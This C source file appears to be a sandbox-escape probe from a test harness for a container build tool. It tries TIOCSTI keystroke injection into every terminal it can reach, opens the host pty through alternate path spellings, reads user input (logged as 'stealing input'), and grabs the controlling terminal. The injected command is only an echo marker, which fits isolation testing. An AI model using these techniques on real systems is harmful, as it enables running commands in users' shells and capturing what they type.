// Terminals: /dev/tty (ocibuild's controlling terminal in the harness's tty test), the host's
// /dev/pts/N (the harness's pty, hinted), TIOCSTI (typing into the user's shell) on every fd and
// terminal it can reach, and reading what the user types.
#include <sys/ioctl.h>
#include <termios.h>

#include "probe.h"

static void inject(const char* what, int fd) {
  const char* cmd = "echo OCIB-TIOCSTI-INJECTED\n";
  int n = 0;
  for (const char* c = cmd; *c; ++c)
    if (ioctl(fd, TIOCSTI, c) == 0) ++n;
  ATT(n ? n : -1, "%s ioctl(TIOCSTI)", what);
  if (n) p_escape("%s: TIOCSTI injected %d bytes", what, n);
  ssize_t w = write(fd, "OCIB-TTY-WRITE\n", 15);
  ATT(w, "%s write", what);
  pid_t sid = 0;
  ATT(ioctl(fd, TIOCGSID, &sid), "%s ioctl(TIOCGSID)", what);
  char buf[64];
  int fl = fcntl(fd, F_GETFL);
  fcntl(fd, F_SETFL, fl | O_NONBLOCK);
  ssize_t r = read(fd, buf, sizeof buf);
  ATT(r, "%s read (stealing input)", what);
  if (r > 0) p_loot(what, buf, (size_t)r);
}

int main(void) {
  p_start();
  for (int fd = 0; fd < 3; ++fd) {
    if (isatty(fd))
      inject(p_strf("fd %d", fd), fd);
    else
      ATT(-1, "isatty(%d)", fd);
  }
  int t = open("/dev/tty", O_RDWR | O_NOCTTY);
  ATT(t, "open(/dev/tty)");
  if (t >= 0) inject("/dev/tty", t);
  const char* pty = hint("PTY");
  if (pty) {
    const char* spellings[] = {"", "/proc/self/root", "/dev/.."};
    for (int i = 0; i < 3; ++i) {
      char* p = p_strf("%s%s", spellings[i], pty);
      int fd = open(p, O_RDWR | O_NOCTTY);
      ATT(fd, "open(%s)", p);
      if (fd >= 0) inject(p, fd);
    }
  }
  DIR* d = opendir("/dev/pts");
  ATT(d ? 0 : -1, "opendir(/dev/pts)");
  if (d) {
    struct dirent* e;
    while ((e = readdir(d))) {
      if (!isdigit((unsigned char)e->d_name[0])) continue;
      p_line("ATTEMPT", "/dev/pts lists %s", e->d_name);
    }
    closedir(d);
  }
  ATT(ioctl(0, TIOCSCTTY, 1), "ioctl(0, TIOCSCTTY)");
  p_end();
}
